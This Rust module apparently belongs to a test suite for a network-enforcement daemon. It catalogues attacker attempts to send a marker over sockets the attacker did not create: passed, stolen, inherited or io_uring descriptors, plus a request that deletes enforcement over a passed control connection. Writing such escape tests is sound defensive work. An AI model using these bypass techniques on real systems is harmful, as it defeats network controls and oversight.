//! Sockets that the attacker did not make: passed over a Unix socket, taken from another process, inherited.

use std::fs::File;
use std::io::Write as _;
use std::os::fd::{AsFd, AsRawFd as _, FromRawFd as _, OwnedFd};
use std::os::unix::net::UnixStream;

use crate::context::{Context, target4};
use crate::sys::{self, At as _, Attempt, name};

/// The descriptor at which a supervisor leaves a socket for its child.
pub(crate) const INHERITED: i32 = 17;

/// Connected already, by whoever passes it.
pub(crate) fn passed_connected(context: &Context) -> Attempt {
    sys::send(passed(context)?, context.magic())
}

pub(crate) fn passed_written(context: &Context) -> Attempt {
    File::from(passed(context)?).write_all(context.magic()).at("write")
}

pub(crate) fn passed_unconnected(context: &Context) -> Attempt {
    sys::send_to(passed(context)?, context.magic(), 0, &name(target4()))
}

/// Listens outside; the connection is accepted here.
pub(crate) fn passed_listener(context: &Context) -> Attempt {
    sys::send(sys::accept(passed(context)?)?, context.magic())
}

/// From a file to the socket, inside the kernel.
pub(crate) fn passed_sendfile(context: &Context) -> Attempt {
    let socket = passed(context)?;
    let file = file_with_magic(context)?;
    let mut offset = 0;
    nix::sys::sendfile::sendfile(&socket, &file, Some(&mut offset), context.magic.len())
        .at("sendfile")
        .map(drop)
}

/// From a pipe to the socket, inside the kernel.
pub(crate) fn passed_splice(context: &Context) -> Attempt {
    let socket = passed(context)?;
    let (reader, writer) = nix::unistd::pipe().at("pipe")?;
    File::from(writer).write_all(context.magic()).at("write")?;
    let flags = nix::fcntl::SpliceFFlags::empty();
    nix::fcntl::splice(&reader, None, &socket, None, context.magic.len(), flags).at("splice").map(drop)
}

/// The peer has closed its window: the data waits, and leaves when nobody of the session runs.
pub(crate) fn passed_closed_window(context: &Context) -> Attempt {
    let socket = passed(context)?;
    let flags = libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL;
    // More than once, since it is not known where the packets will begin.
    let data = context.magic.repeat(8);
    // SAFETY: the data outlives the call, and its length is given.
    let sent = unsafe { libc::send(socket.as_raw_fd(), data.as_ptr().cast(), data.len(), flags) };
    sys::check("send", sent)?;
    drop(socket);
    // The outsider goes on when the attempt has ended.
    std::fs::write(context.dir.join("sent"), format!("{}\n", std::process::id())).at("write")
}

/// A packet socket, opened by somebody who may.
pub(crate) fn passed_packet_socket(context: &Context) -> Attempt {
    super::families::send_frame(passed(context)?, context)
}

/// A socket of the attacker's own, which somebody else connects.
pub(crate) fn lent(context: &Context) -> Attempt {
    let socket = sys::tcp(target4())?;
    let mut borrower = UnixStream::connect(context.socket()).at("connect to the borrower")?;
    sys::pass_fd(&borrower, &socket)?;
    // It says so when it has.
    std::io::Read::read_exact(&mut borrower, &mut [0]).at("wait for the borrower")?;
    sys::send(&socket, context.magic())
}

pub(crate) fn stolen_connected(context: &Context) -> Attempt {
    sys::send(stolen(context)?, context.magic())
}

/// A file that has no name, which the other process reads.
pub(crate) fn opened_through_proc(context: &Context) -> Attempt {
    let path = format!("/proc/{}/fd/{}", context.outsider, context.facts[2]);
    let mut file = File::options().write(true).open(path).at("open")?;
    file.write_all(context.magic()).at("write")
}

pub(crate) fn inherited(context: &Context) -> Attempt {
    // SAFETY: whoever started us has left it there for us, or nothing is there, which the first use says.
    let socket = unsafe { OwnedFd::from_raw_fd(INHERITED) };
    let outcome = sys::send(&socket, context.magic());
    // What is not open cannot be closed either.
    std::mem::forget(socket);
    outcome
}

/// A network socket as standard input.
pub(crate) fn inherited_stream(context: &Context) -> Attempt {
    sys::send(std::io::stdin().as_fd(), context.magic())
}

/// A ring at which a thread of the kernel's works for another process, taken from that process.
pub(crate) fn stolen_ring(context: &Context) -> Attempt {
    super::uring::submit_as_owner(stolen(context)?, context)
}

pub(crate) fn passed_ring(context: &Context) -> Attempt {
    super::uring::submit_as_owner(passed(context)?, context)
}

/// Deletes enforcement over a connection to the daemon that somebody outside has opened.
pub(crate) fn passed_control_connection(context: &Context) -> Attempt {
    let mut connection = UnixStream::from(passed(context)?);
    let request = b"DELETE /v1/enforcement HTTP/1.1\r\nhost: enforcer\r\ncontent-length: 0\r\n\r\n";
    connection.write_all(request).at("write")?;
    let mut answer = [0; 12];
    std::io::Read::read_exact(&mut connection, &mut answer).at("read")?;
    super::control::accepted(&answer)
}

fn passed(context: &Context) -> Attempt<OwnedFd> {
    sys::receive_fd(UnixStream::connect(context.socket()).at("connect to the donor")?)
}

fn stolen(context: &Context) -> Attempt<OwnedFd> {
    sys::steal_fd(context.outsider, context.facts[1] as i32)
}

fn file_with_magic(context: &Context) -> Attempt<File> {
    let path = context.dir.join("file");
    std::fs::write(&path, context.magic()).at("write")?;
    File::open(path).at("open")
}
